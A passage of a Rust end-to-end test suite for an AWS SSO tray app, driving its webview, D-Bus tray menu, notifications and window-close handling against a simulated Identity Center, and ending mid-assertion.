//! The tray app for real: its webview driven through tauri-driver + WebKitWebDriver, its tray
//! menu driven over D-Bus exactly as a panel does (StatusNotifierItem + com.canonical.dbusmenu),
//! its notifications captured on a real notification server. Screenshots and the menu state are
//! saved under `<target>/screenshots`.
//!
//! Also: single instance, the window's own process, and the clipboard.
//!
//! **The lost close (#12 point 4) was the test harness's.** About one close in three seemed lost:
//! the window stayed after one WM_DELETE_WINDOW and closed on the second. An `xtrace` proxy between
//! the app and the X server showed each window process receiving exactly one WM_DELETE_WINDOW (the
//! second), so the first never left the server. The sender, the tests' `close_window` (our stand-in
//! for a window manager's close button), sent it unchecked from a fresh x11rb connection and
//! dropped the connection at once; an X server that sees a client hang up closes it without
//! carrying out requests it has not read yet (Xlib's `XCloseDisplay` syncs first for this reason).
//! With the send checked (one round trip), 60 of 60 closes worked, and through a real window
//! manager (openbox, asked by `wmctrl -c`) 60 of 60 too. Nothing in the app changed;
//! `one_close_request_closes_the_window_every_time` keeps both paths honest (20 closes each).
//! (Earlier measurements that also blamed openbox were taken with experimental changes to the
//! window in place.)

use crate::cli::World;
use ssotray_tests::{
    bin, close_window, count, process_tree, screenshots_dir, Desktop, SimConfig, Webview, CONFIG,
};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;

/// A `BROWSER` that records every URL and follows sign-in URLs (`/authorize`) like a person
/// who clicks Allow on an auto-approving Identity Center.
fn browser_script(dir: &Path) -> (PathBuf, PathBuf) {
    ssotray_tests::stand_in_browser(dir, Some("/authorize?"))
}

fn opened(log: &Path) -> Vec<String> {
    std::fs::read_to_string(log)
        .unwrap_or_default()
        .lines()
        .map(str::to_string)
        .collect()
}

/// The first console sign-in URL the stand-in browser was given, waiting up to 30 s for it.
async fn console_url_opened(log: &Path) -> String {
    wait_until("the console URL in the browser", 30, || {
        opened(log).iter().any(|u| u.contains("Action=login"))
    })
    .await;
    opened(log)
        .into_iter()
        .find(|u| u.contains("Action=login"))
        .expect("a console URL")
}

async fn wait_until<F: FnMut() -> bool>(what: &str, secs: u64, mut f: F) {
    for _ in 0..secs * 10 {
        if f() {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("timed out waiting for {what}");
}

fn app_env(w: &World, desktop: &Desktop, browser: &Path) -> Vec<(String, String)> {
    let runtime = w.home.path().join("run");
    std::fs::create_dir_all(&runtime).unwrap();
    let mut env = w.env();
    env.extend(desktop.env());
    env.push(("BROWSER".into(), browser.display().to_string()));
    env.push(("XDG_RUNTIME_DIR".into(), runtime.display().to_string()));
    env.push((
        "XDG_CONFIG_HOME".into(),
        w.home.path().join(".config").display().to_string(),
    ));
    env.push((
        "XDG_STATE_HOME".into(),
        w.home.path().join(".local/state").display().to_string(),
    ));
    env.push(("PATH".into(), std::env::var("PATH").unwrap_or_default()));
    let tmp = w.home.path().join("tmp");
    std::fs::create_dir_all(&tmp).unwrap();
    env.push(("TMPDIR".into(), tmp.display().to_string()));
    // The app's log level, when a developer asks for one (its stderr is the test's).
    if let Ok(v) = std::env::var("SSOTRAY_LOG") {
        env.push(("SSOTRAY_LOG".into(), v));
    }
    env
}

/// A world with `my-sso` logged in (device code, an auto-approving simulator) and its account
/// list kept.
async fn logged_in_with_accounts() -> World {
    logged_in_with_accounts_on(CONFIG).await
}

/// The same over another config.
async fn logged_in_with_accounts_on(config: &str) -> World {
    let w = World::auto_approving(config).await;
    assert!(w
        .ssotray(&["login", "my-sso", "--device-code", "--no-browser"])
        .await
        .status
        .success());
    assert!(w.ssotray(&["accounts", "--refresh"]).await.status.success());
    w
}

/// What the desktop's clipboard holds.
fn clipboard_text(desktop: &Desktop) -> String {
    let o = std::process::Command::new("xclip")
        .args(["-o", "-selection", "clipboard"])
        .env("DISPLAY", &desktop.display)
        .output()
        .expect("xclip (apt package xclip)");
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// The tray process's window socket (the app has one window-socket directory in its TMPDIR).
fn window_socket(w: &World) -> PathBuf {
    std::fs::read_dir(w.home.path().join("tmp"))
        .unwrap()
        .flatten()
        .find(|e| {
            e.file_name()
                .to_string_lossy()
                .starts_with("ssotray-window-")
        })
        .expect("a window socket directory")
        .path()
        .join("s")
}

/// The window sockets' directories the app has in its TMPDIR.
fn window_socket_dirs(w: &World) -> usize {
    std::fs::read_dir(w.home.path().join("tmp"))
        .unwrap()
        .flatten()
        .filter(|e| {
            e.file_name()
                .to_string_lossy()
                .starts_with("ssotray-window-")
        })
        .count()
}

/// How many visible windows titled "ssotray" the screen has.
fn visible_windows(desktop: &Desktop) -> usize {
    let o = std::process::Command::new("xdotool")
        .args(["search", "--onlyvisible", "--name", "^ssotray$"])
        .env("DISPLAY", &desktop.display)
        .output()
        .unwrap();
    String::from_utf8_lossy(&o.stdout).lines().count()
}

/// Starts the app with `args` (no window unless `--open`), on this desktop and home.
fn spawn_app(w: &World, desktop: &Desktop, browser: &Path, args: &[&str]) -> tokio::process::Child {
    tokio::process::Command::new(bin("ssotray-app"))
        .args(args)
        .env_clear()
        .envs(app_env(w, desktop, browser))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::inherit())
        .kill_on_drop(true)
        .spawn()
        .expect("ssotray-app")
}

/// The tray app (no window) over a fresh world with `CONFIG`, logged out; keep the tempdir.
async fn tray_app(desktop: &Desktop) -> (World, tempfile::TempDir, tokio::process::Child) {
    let w = World::new(CONFIG, SimConfig::default()).await;
    let tmp = tempfile::tempdir().unwrap();
    let (browser, _log) = browser_script(tmp.path());
    let app = spawn_app(&w, desktop, &browser, &[]);
    (w, tmp, app)
}

/// The tray item's menu, read over D-Bus as a panel does.
pub(crate) struct TrayMenu<'a> {
    desktop: &'a Desktop,
    bus_name: String,
    item_path: String,
    path: String,
}

impl<'a> TrayMenu<'a> {
    pub(crate) async fn find(desktop: &'a Desktop) -> TrayMenu<'a> {
        let mut items = Vec::new();
        wait_until(
            "the tray item to register with the StatusNotifierWatcher",
            60,
            || {
                items = desktop.tray_item_list();
                !items.is_empty()
            },
        )
        .await;
        // A bus name, with the item's path when it gave one (else the specification's path).
        let item = items[0].clone();
        let (bus_name, item_path) = match item.split_once('/') {
            Some((b, p)) => (b.to_string(), format!("/{p}")),
            None => (item.clone(), "/StatusNotifierItem".to_string()),
        };
        let menu = desktop.gdbus(&[
            "call",
            "--dest",
            &bus_name,
            "--object-path",
            &item_path,
            "--method",
            "org.freedesktop.DBus.Properties.Get",
            "org.kde.StatusNotifierItem",
            "Menu",
        ]);
        let path = menu.split('\'').nth(1).expect("menu path").to_string();
        TrayMenu {
            desktop,
            bus_name,
            item_path,
            path,
        }
    }

    /// Calls a method on the item's object (`org.kde.StatusNotifierItem.Activate`: a left click on
    /// the icon) as a panel does; gdbus's answer.
    fn call_item(&self, method: &str, args: &[&str]) -> String {
        let mut all = vec![
            "call",
            "--dest",
            &self.bus_name,
            "--object-path",
            &self.item_path,
            "--method",
            method,
        ];
        all.extend(args);
        self.desktop.gdbus(&all)
    }

    /// A property of the item, as gdbus prints it.
    fn item_property(&self, name: &str) -> String {
        self.call_item(
            "org.freedesktop.DBus.Properties.Get",
            &["org.kde.StatusNotifierItem", name],
        )
    }

    /// (id, label) of every item, depth-first, as the layout lists them.
    fn items(&self) -> Vec<(i32, String)> {
        let layout = self.desktop.gdbus(&[
            "call",
            "--dest",
            &self.bus_name,
            "--object-path",
            &self.path,
            "--method",
            "com.canonical.dbusmenu.GetLayout",
            "--",
            "0",
            "-1",
            "@as []",
        ]);
        let mut out = Vec::new();
        let mut rest = layout.as_str();
        while let Some(i) = rest.find("'label': <'") {
            let before = &rest[..i];
            let id = before
                .rfind('(')
                .and_then(|p| before[p + 1..].split(',').next())
                .and_then(|n| n.trim().parse().ok())
                .unwrap_or(-1);
            let after = &rest[i + 11..];
            let end = after.find("'>").unwrap_or(0);
            out.push((id, after[..end].replace("\\\\", "\\")));
            rest = &after[end..];
        }
        out
    }

    pub(crate) fn labels(&self) -> Vec<String> {
        self.items().into_iter().map(|(_, l)| l).collect()
    }

    fn click(&self, label: &str) {
        let (id, _) = self
            .items()
            .into_iter()
            .find(|(_, l)| l == label)
            .unwrap_or_else(|| panic!("no menu item {label:?} in {:?}", self.labels()));
        let status = std::process::Command::new("dbus-send")
            .args([
                &format!("--bus={}", self.desktop.bus),
                "--print-reply",
                &format!("--dest={}", self.bus_name),
                &self.path,
                "com.canonical.dbusmenu.Event",
                &format!("int32:{id}"),
                "string:clicked",
                "variant:int32:0",
                "uint32:0",
            ])
            .output()
            .unwrap();
        assert!(
            status.status.success(),
            "{}",
            String::from_utf8_lossy(&status.stderr)
        );
    }
}

#[tokio::test]
async fn the_tray_menu_driven_over_dbus_logs_in_opens_a_console_renews_and_quits() {
    let desktop = Desktop::start();
    let w = World::auto_approving(CONFIG).await;
    let tmp = tempfile::tempdir().unwrap();
    let (browser, log) = browser_script(tmp.path());
    let mut app = spawn_app(&w, &desktop, &browser, &[]);
    let menu = TrayMenu::find(&desktop).await;
    wait_until("the first menu", 30, || {
        menu.labels().iter().any(|l| l == "my-sso — logged out")
    })
    .await;
    let labels = menu.labels();
    for expected in ["Log in", "Open ssotray…", "Settings…", "Quit"] {
        assert!(
            labels.iter().any(|l| l == expected),
            "{expected} in {labels:?}"
        );
    }

    // Log in from the menu: the browser sign-in runs, the menu follows.
    menu.click("Log in");
    wait_until("the login", 60, || w.home.token_file("my-sso").exists()).await;
    wait_until("the menu after the login", 60, || {
        menu.labels()
            .iter()
            .any(|l| l.starts_with("my-sso — ") && l.ends_with(" left"))
    })
    .await;
    wait_until("the accounts submenu", 60, || {
        menu.labels().iter().any(|l| l == "Open console")
    })
    .await;
    let layout = menu.labels().join("\n");
    assert!(
        layout.contains("Renew session")
            && layout.contains("Log out")
            && layout.contains("dev (111111111111)"),
        "{layout}"
    );
    std::fs::create_dir_all(screenshots_dir()).unwrap();
    std::fs::write(screenshots_dir().join("tray-menu.txt"), &layout).unwrap();

    // Open a console: the first role of the first account.
    menu.click("Open console");
    let url = console_url_opened(&log).await;
    let html = reqwest::get(&url).await.unwrap().text().await.unwrap();
    assert!(
        html.contains("<span id=\"account-id\">111111111111</span>")
            && html.contains("<span id=\"role-name\">AdministratorAccess</span>"),
        "{html}"
    );

    // Renew: Logout, then a fresh login.
    let before = w.home.token_json("my-sso");
    menu.click("Renew session");
    wait_until("the renewal", 60, || {
        std::fs::read(w.home.token_file("my-sso"))
            .ok()
            .and_then(|b| serde_json::from_slice::<serde_json::Value>(&b).ok())
            .is_some_and(|t| t["accessToken"] != before["accessToken"])
    })
    .await;
    let s = w.stats().await;
    assert_eq!((count(&s, "Logout"), count(&s, "Authorize")), (1, 2), "{s}");

    assert_eq!(
        window_socket_dirs(&w),
        1,
        "the app listens for its window's process"
    );
    let keeper_socket = w.home.path().join("run/ssotray/keeper.sock");
    assert!(keeper_socket.exists(), "the app's keeper owns logins");
    let app_socket = w.home.path().join("run/ssotray/app.sock");
    assert!(app_socket.exists(), "the app listens for a second launch");
    menu.click("Quit");
    let status = tokio::time::timeout(Duration::from_secs(20), app.wait())
        .await
        .expect("the app quits")
        .unwrap();
    assert!(status.success(), "{status:?}");
    assert_eq!(
        window_socket_dirs(&w),
        0,
        "Quit leaves no socket directory behind"
    );
    // As `ssotray keep` does: no socket is left that nobody serves.
    assert!(!keeper_socket.exists(), "Quit removes the keeper's socket");
    assert!(!app_socket.exists(), "Quit removes the app's own socket");
}

/// The menu's Log in while a login the keeper runs for another program waits for the browser:
/// it goes through the keeper's per-session gate, so that login serves it too (one sign-in,
/// one browser page), as `ssotray keep` serves every asker.
#[tokio::test]
async fn a_login_from_the_menu_while_the_keeper_logs_in_for_a_program_is_served_by_that_login() {
    let desktop = Desktop::start();
    let w = World::auto_approving(CONFIG).await;
    let tmp = tempfile::tempdir().unwrap();
    // This browser only notes what it is given: the test signs in when it chooses.
    let (browser, log) = ssotray_tests::stand_in_browser(tmp.path(), None);
    let _app = spawn_app(&w, &desktop, &browser, &[]);
    let menu = TrayMenu::find(&desktop).await;
    wait_until("the first menu", 30, || {
        menu.labels().iter().any(|l| l == "my-sso — logged out")
    })
    .await;
    let runtime = w.home.path().join("run");
    wait_until("the app's keeper socket", 30, || {
        runtime.join("ssotray/keeper.sock").exists()
    })
    .await;
    // A program's login, which the CLI hands to the running keeper.
    let runtime = runtime.display().to_string();
    let mut cli = w.spawn(
        &["login", "my-sso"],
        &[("XDG_RUNTIME_DIR", runtime.as_str())],
    );
    let sign_ins = || {
        opened(&log)
            .into_iter()
            .filter(|u| u.contains("/authorize?"))
            .collect::<Vec<_>>()
    };
    wait_until("the keeper's sign-in page", 30, || sign_ins().len() == 1).await;
    // The user clicks Log in in the menu meanwhile.
    wait_until("the menu's Log in", 30, || {
        menu.labels().iter().any(|l| l == "Log in")
    })
    .await;
    menu.click("Log in");
    tokio::time::sleep(Duration::from_secs(2)).await;
    // The user signs in once, on the page the keeper opened (the simulator approves at once and
    // sends the browser on to the keeper's callback).
    let url = sign_ins()[0].clone();
    let signed = tokio::time::timeout(Duration::from_secs(30), reqwest::get(&url))
        .await
        .expect("the sign-in answers")
        .unwrap();
    assert!(signed.status().is_success(), "{}", signed.status());
    let status = tokio::time::timeout(Duration::from_secs(60), cli.wait())
        .await
        .expect("the program's login ends")
        .unwrap();
    assert!(status.success(), "{status:?}");
    wait_until("the menu after the login", 60, || {
        menu.labels()
            .iter()
            .any(|l| l.starts_with("my-sso — ") && l.ends_with(" left"))
    })
    .await;
    // The menu's login was served by it: no second page, one authorization.
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(sign_ins().len(), 1, "{:?}", opened(&log));
    assert_eq!(
        count(&w.stats().await, "Authorize"),
        1,
        "{}",
        w.stats().await
    );
}

/// Chromium clicks Allow on the simulator's sign-in page (the user's browser).
async fn chromium_allows(url: &str) {
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut driver = tokio::process::Command::new("chromedriver")
        .arg(format!("--port={port}"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let profile = tempfile::tempdir().unwrap();
    let mut caps = serde_json::Map::new();
    caps.insert(
        "goog:chromeOptions".into(),
        serde_json::json!({"args": ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
            "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", format!("--user-data-dir={}", profile.path().display())]}),
    );
    let mut client = None;
    for _ in 0..300 {
        if let Ok(c) = fantoccini::ClientBuilder::rustls()
            .expect("tls")
            .capabilities(caps.clone())
            .connect(&format!("http://127.0.0.1:{port}"))
            .await
        {
            client = Some(c);
            break;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let c = client.expect("a Chromium session");
    c.goto(url).await.unwrap();
    c.find(fantoccini::Locator::Id("allow"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    for _ in 0..100 {
        if c.source()
            .await
            .unwrap_or_default()
            .contains("You can close this tab")
        {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let _ = c.close().await;
    let _ = driver.kill().await;
}

#[tokio::test]
async fn a_panel_that_restarts_gets_the_tray_item_back_with_its_menu_working() {
    let mut desktop = Desktop::start();
    let (_w, _tmp, _app) = tray_app(&desktop).await;
    let before = {
        let menu = TrayMenu::find(&desktop).await;
        wait_until("the full menu", 30, || {
            menu.labels().iter().any(|l| l == "my-sso — logged out")
        })
        .await;
        menu.labels()
    };
    // The panel crashes and a new one starts: a new watcher process, knowing no items. A watcher
    // takes its name a moment before it exports its object; libayatana-appindicator's own attempt
    // to register falls into that moment now and then (`UnknownObject`) and is never retried.
    // Ten plain restarts, then three of a watcher slowed down as on a busy machine, which makes
    // that moment long enough to lose the item every time without `tray::follow_the_watcher`
    // (4 runs of 4 failed without it).
    for restart in 1..=13 {
        if restart <= 10 {
            desktop.restart_watcher();
        } else {
            desktop.restart_watcher_slowly(Duration::from_millis(200));
        }
        let menu = TrayMenu::find(&desktop).await;
        wait_until(
            &format!("the same menu on new watcher {restart}"),
            10,
            || menu.labels() == before,
        )
        .await;
        assert_eq!(desktop.tray_item_count(), 1, "{}", desktop.tray_items());
    }
    let menu = TrayMenu::find(&desktop).await;
    // And it works: a click opens the window.
    menu.click("Open ssotray…");
    wait_until("the window", 30, || visible_windows(&desktop) == 1).await;
}

/// Opens the window from the menu and closes it with one request, `rounds` times; the rounds in
/// which the window (and its process tree) had not gone 10 s later.
async fn lost_closes(
    desktop: &Desktop,
    pid: u32,
    menu: &TrayMenu<'_>,
    rounds: usize,
    close: impl Fn() -> bool,
) -> Vec<usize> {
    lost_closes_after(desktop, pid, menu, rounds, true, close).await
}

/// [`lost_closes`]; with `wait: false` the first close is tried every 3 ms from the moment the
/// menu is clicked, so it is sent as soon as there is a window to send it to.
async fn lost_closes_after(
    desktop: &Desktop,
    pid: u32,
    menu: &TrayMenu<'_>,
    rounds: usize,
    wait: bool,
    close: impl Fn() -> bool,
) -> Vec<usize> {
    let mut lost = Vec::new();
    for round in 1..=rounds {
        menu.click("Open ssotray…");
        if wait {
            wait_until("the window", 30, || visible_windows(desktop) == 1).await;
            assert!(close(), "round {round}: a window to close");
        } else {
            let mut sent = false;
            for _ in 0..10_000 {
                if close() {
                    sent = true;
                    break;
                }
                tokio::time::sleep(Duration::from_millis(3)).await;
            }
            assert!(sent, "round {round}: a window to close");
        }
        let mut gone = false;
        for _ in 0..100 {
            if process_tree(pid).len() == 1 && visible_windows(desktop) == 0 {
                gone = true;
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        if !gone {
            lost.push(round);
            // Close it for the next round (a second request, as a user clicks again).
            for _ in 0..50 {
                close();
                tokio::time::sleep(Duration::from_millis(200)).await;
                if process_tree(pid).len() == 1 && visible_windows(desktop) == 0 {
                    break;
                }
            }
        }
    }
    lost
}

#[tokio::test]
async fn one_close_request_closes_the_window_every_time() {
    let desktop = Desktop::start();
    let (_w, _tmp, app) = tray_app(&desktop).await;
    let pid = app.id().unwrap();
    let menu = TrayMenu::find(&desktop).await;
    // The close request a window manager sends (WM_DELETE_WINDOW), at once after the window
    // appears. (Sent unchecked from a connection closed right after, it was lost about one time in
    // three: the X server drops requests of a client that hung up. That was the "lost close";
    // `close_window` now waits until the server has carried it out.)
    let lost = lost_closes(&desktop, pid, &menu, 20, || {
        close_window(&desktop.display, "ssotray")
    })
    .await;
    assert!(lost.is_empty(), "lost in rounds {lost:?} of 20");
    // And through a real window manager: openbox, asked to close the window as its close button
    // does (`wmctrl -c`: _NET_CLOSE_WINDOW, after which openbox sends WM_DELETE_WINDOW).
    let mut wm = std::process::Command::new("openbox")
        .env("DISPLAY", &desktop.display)
        .env("DBUS_SESSION_BUS_ADDRESS", &desktop.bus)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("openbox (apt package openbox; scripts/test installs it)");
    wait_until("openbox to manage the screen", 30, || {
        std::process::Command::new("wmctrl")
            .arg("-m")
            .env("DISPLAY", &desktop.display)
            .output()
            .is_ok_and(|o| String::from_utf8_lossy(&o.stdout).contains("Openbox"))
    })
    .await;
    let lost = lost_closes(&desktop, pid, &menu, 20, || {
        std::process::Command::new("wmctrl")
            .args(["-F", "-c", "ssotray"])
            .env("DISPLAY", &desktop.display)
            .status()
            .is_ok_and(|s| s.success())
    })
    .await;
    let _ = wm.kill();
    let _ = wm.wait();
    assert!(
        lost.is_empty(),
        "lost through openbox in rounds {lost:?} of 20"
    );
}

#[tokio::test]
async fn a_close_request_sent_the_moment_the_window_exists_closes_it() {
    let desktop = Desktop::start();
    let (_w, _tmp, app) = tray_app(&desktop).await;
    let pid = app.id().unwrap();
    let menu = TrayMenu::find(&desktop).await;
    // Sent within a few milliseconds of the window's existing with its title, even before it is
    // mapped (a window manager's or a script's close), not after a poll's 100 ms.
    let lost = lost_closes_after(&desktop, pid, &menu, 20, false, || {
        ssotray_tests::close_window_when(&desktop.display, "ssotray", false)
    })
    .await;
    assert!(lost.is_empty(), "lost in rounds {lost:?} of 20");
}

#[tokio::test]
async fn a_watcher_that_does_not_answer_counts_as_no_tray_and_the_window_opens() {
    // A hung panel: its watcher keeps the name on the bus and answers nothing.
    let desktop = Desktop::start();
    desktop.freeze_watcher();
    let started = std::time::Instant::now();
    let (_w, _tmp, _app) = tray_app(&desktop).await;
    wait_until("the window the app opens by itself", 30, || {
        visible_windows(&desktop) == 1
    })
    .await;
    // (About the 2 s the app gives a watcher to answer.)
    eprintln!("window after {:?}", started.elapsed());
}

#[tokio::test]
async fn a_left_click_on_the_icon_opens_the_window() {
    let desktop = Desktop::start();
    let (_w, _tmp, _app) = tray_app(&desktop).await;
    let item = TrayMenu::find(&desktop).await;
    // The item is not a menu: a panel sends Activate on a left click (and shows the menu on a
    // right click), which libayatana-appindicator's items did not even have.
    assert!(
        item.item_property("ItemIsMenu").contains("false"),
        "{}",
        item.item_property("ItemIsMenu")
    );
    assert_eq!(visible_windows(&desktop), 0, "no window before the click");
    let answer = item.call_item("org.kde.StatusNotifierItem.Activate", &["100", "10"]);
    assert_eq!(answer.trim(), "()", "Activate answered {answer}");
    wait_until("the window after a left click", 30, || {
        visible_windows(&desktop) == 1
    })
    .await;
    // A second click on an open window shows the same window, not a second one.
    item.call_item("org.kde.StatusNotifierItem.Activate", &["100", "10"]);
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(visible_windows(&desktop), 1);
    // Off by default: the container-credentials server made no token file.
    assert!(!_w.home.path().join("run/ssotray/container-token").exists());
}

#[tokio::test]
async fn with_the_setting_on_the_app_serves_container_credentials() {
    let desktop = Desktop::start();
    let w = logged_in_with_accounts().await;
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let settings = w.home.path().join(".config/ssotray/settings.toml");
    std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
    std::fs::write(
        &settings,
        format!("[container_server]\nenabled = true\naddress = \"127.0.0.1:{port}\"\n"),
    )
    .unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let (browser, _log) = browser_script(tmp.path());
    let (uri, dir) = crate::served::grant(&w.env(), "prod-ro", &format!("127.0.0.1:{port}")).await;
    let _app = spawn_app(&w, &desktop, &browser, &[]);
    wait_until("the container server", 30, || {
        std::net::TcpStream::connect(("127.0.0.1", port)).is_ok()
    })
    .await;
    let env = crate::served::container_env(&w, &uri, &dir.join("token"));
    let script = "import boto3; print(boto3.client('sts', region_name='eu-west-1').get_caller_identity()['Arn'])";
    let o = ssotray_tests::run(&ssotray_tests::python(), &["-c", script], &env).await;
    assert!(
        String::from_utf8_lossy(&o.stdout)
            .starts_with("arn:aws:sts::333333333333:assumed-role/AWSReservedSSO_ReadOnlyAccess_"),
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
}

#[tokio::test]
async fn with_no_tray_host_the_window_opens_says_how_to_get_the_icon_and_the_icon_comes_with_a_panel(
) {
    // Stock GNOME: no StatusNotifierWatcher on the bus.
    let mut desktop = Desktop::start_without_watcher();
    let w = logged_in_with_accounts().await;
    // The keeper has work at once, at real proportions: the cached token, written by another tool,
    // has 5 minutes left, inside the 20-minute refresh lead; the user's setting says the portal
    // session lasts 15 minutes, inside the 30-minute notice.
    let mut token = w.home.token_json("my-sso");
    token["accessToken"] = "written-by-another-tool".into();
    token["expiresAt"] = (chrono::Utc::now() + chrono::Duration::minutes(5))
        .format("%Y-%m-%dT%H:%M:%SZ")
        .to_string()
        .into();
    std::fs::write(w.home.token_file("my-sso"), token.to_string()).unwrap();
    let settings = w.home.path().join(".config/ssotray/settings.toml");
    std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
    std::fs::write(&settings, "[sessions.my-sso]\nsession_length = 900\n").unwrap();
    let created = count(&w.stats().await, "CreateToken");
    let tmp = tempfile::tempdir().unwrap();
    let (browser, _log) = browser_script(tmp.path());

    // Launched without --open, the window opens by itself and says why and what to do.
    let started = std::time::Instant::now();
    let view =
        Webview::start_with(&bin("ssotray-app"), &[], &app_env(&w, &desktop, &browser)).await;
    let notice = view
        .wait_text("#no-tray", "This desktop shows no tray icons")
        .await;
    eprintln!("window with the notice after {:?}", started.elapsed());
    for needed in [
        "sudo apt install gnome-shell-extension-appindicator",
        "sudo dnf install gnome-shell-extension-appindicator",
        "Launch ssotray again",
    ] {
        assert!(notice.contains(needed), "{needed:?} in {notice}");
    }
    assert!(
        view.displayed("#quit").await,
        "a Quit button without the tray's Quit"
    );
    assert_eq!(visible_windows(&desktop), 1);
    view.wait_text("#sessions", "my-sso").await;

    // The keeper works as usual: the token is refreshed, the session's end announced.
    wait_until("the keeper's refresh", 60, || {
        std::fs::read(w.home.token_file("my-sso"))
            .ok()
            .and_then(|b| serde_json::from_slice::<serde_json::Value>(&b).ok())
            .and_then(|t| t["expiresAt"].as_str().map(str::to_string))
            .and_then(|e| chrono::DateTime::parse_from_rfc3339(&e).ok())
            .is_some_and(|e| e > chrono::Utc::now() + chrono::Duration::minutes(50))
    })
    .await;
    assert!(count(&w.stats().await, "CreateToken") > created);
    wait_until("the notice of the session's end", 60, || {
        desktop
            .notifications()
            .iter()
            .any(|n| n.summary.starts_with("Session my-sso ends in "))
    })
    .await;

    // A panel appears (the AppIndicator extension turned on): the icon registers, with the usual
    // menu, and the window's notice goes, all without a restart.
    desktop.start_watcher();
    let menu = TrayMenu::find(&desktop).await;
    wait_until("the full menu", 30, || {
        menu.labels().iter().any(|l| l == "Open console")
    })
    .await;
    let labels = menu.labels();
    assert_eq!(labels.first().map(String::as_str), Some("Open ssotray…"));
    for expected in [
        "Renew session",
        "Log out",
        "dev (111111111111)",
        "Settings…",
        "Quit",
    ] {
        assert!(
            labels.iter().any(|l| l == expected),
            "{expected} in {labels:?}"
        );
    }
    assert!(
        labels.iter().any(|l| l.starts_with("my-sso — ")),
        "{labels:?}"
    );
    assert_eq!(desktop.tray_item_count(), 1, "{}", desktop.tray_items());
    for _ in 0..100 {
        if !view.displayed("#no-tray").await {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(
        !view.displayed("#no-tray").await,
        "the notice went with the icon's arrival"
    );

    // The panel goes away again: the notice is back, and its Quit ends the app.
    desktop.stop_watcher();
    view.wait_text("#no-tray", "This desktop shows no tray icons")
        .await;
    view.click("#quit").await;
    // (The tray process removes its window socket at exit; the window goes with it.)
    wait_until("the app to quit", 30, || window_socket_dirs(&w) == 0).await;
    wait_until("its window to go", 30, || visible_windows(&desktop) == 0).await;
    let _ = view.client.close().await;
}

#[tokio::test]
async fn the_window_in_the_real_webview_adds_logs_in_searches_and_opens_a_console() {
    let desktop = Desktop::start();
    // No sso-session yet: the user adds one from the window.
    let original = "# my config\n[default]\nregion = eu-west-1\n";
    let w = World::new(original, SimConfig::default()).await;
    let tmp = tempfile::tempdir().unwrap();
    let (browser, log) = ssotray_tests::stand_in_browser(tmp.path(), None);
    let shots = screenshots_dir();
    let view = Webview::start(&bin("ssotray-app"), &app_env(&w, &desktop, &browser)).await;

    // Add an Identity Center.
    view.click("#nav-add").await;
    view.type_into("#add-start-url", "https://d-1234567890.awsapps.com/start")
        .await;
    view.type_into("#add-region", "us-east-1").await;
    view.type_into("#add-name", "my-sso").await;
    desktop.screenshot(&shots.join("add-identity-center.png"));
    view.click("#add-submit").await;
    view.wait_text("#add-status", "Added [sso-session my-sso]")
        .await;
    let config = std::fs::read_to_string(w.home.aws().join("config")).unwrap();
    assert!(
        config.starts_with(original),
        "no other byte changed: {config}"
    );
    assert!(config.contains("\n[sso-session my-sso]\nsso_start_url = https://d-1234567890.awsapps.com/start\nsso_region = us-east-1\n"), "{config}");

    // Log in with the browser flow: Chromium clicks Allow on the sign-in page.
    view.click("#add-login").await;
    wait_until("the browser to be asked to sign in", 30, || {
        opened(&log).iter().any(|u| u.contains("/authorize?"))
    })
    .await;
    let authorize = opened(&log)
        .into_iter()
        .find(|u| u.contains("/authorize?"))
        .unwrap();
    chromium_allows(&authorize).await;
    wait_until("the token", 60, || w.home.token_file("my-sso").exists()).await;
    view.click("#nav-sessions").await;
    let countdown = view
        .wait_text("#session-my-sso .access-left", " left")
        .await;
    assert!(
        countdown.starts_with("Access token: 59 min") || countdown.starts_with("Access token: 1 h"),
        "{countdown}"
    );
    view.wait_text("#session-my-sso .session-left", "assuming 8 h")
        .await;
    desktop.screenshot(&shots.join("sessions.png"));
    view.no_secrets_on_the_page().await;

    // Log out, then log in with a device code (approved on the device page).
    view.click("#session-my-sso .logout").await;
    view.click("#session-my-sso .login-device").await;
    let code = view.text("#session-my-sso .user-code").await;
    assert_eq!(code.len(), 9, "{code}");
    desktop.screenshot(&shots.join("device-code.png"));
    let r = reqwest::Client::new()
        .post(format!("{}/device", w.sim.base_url))
        .form(&[("user_code", code.as_str()), ("decision", "allow")])
        .send()
        .await
        .unwrap();
    assert!(r.status().is_success());
    view.wait_text("#session-my-sso .access-left", " left")
        .await;

    // Search the roles and open a console.
    view.click("#nav-accounts").await;
    view.wait_text("#roles-more", "5 role(s)").await;
    view.type_into("#search", "prod read").await;
    view.wait_text("#roles-more", "1 role(s)").await;
    desktop.screenshot(&shots.join("accounts.png"));
    let row = view.text("#roles tbody tr").await;
    assert!(
        row.contains("prod (333333333333)") && row.contains("ReadOnlyAccess"),
        "{row}"
    );
    view.click("#roles tbody tr .open-console").await;
    let url = console_url_opened(&log).await;
    let html = reqwest::get(&url).await.unwrap().text().await.unwrap();
    assert!(
        html.contains("<span id=\"account-id\">333333333333</span>")
